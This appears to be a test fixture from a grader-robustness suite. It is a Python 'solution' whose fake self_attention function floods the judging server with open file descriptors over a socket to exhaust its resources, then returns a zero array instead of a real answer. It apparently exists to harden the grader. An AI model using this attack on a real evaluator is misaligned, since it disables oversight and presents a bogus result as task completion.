"""Send open files along with an answer, until the grader has no file descriptors left."""

from judge.attacks import SERVER

SOLUTION = (
    SERVER
    + """
def self_attention(X, *parameters):
    files = [os.open("/dev/null", os.O_RDONLY) for _ in range(200)]
    for byte in struct.pack("!I", 200):
        socket.send_fds(wire, [bytes([byte])], files)
    for _ in range(200):
        socket.send_fds(wire, [b"0"], files)
    return np.zeros_like(X)
"""
)
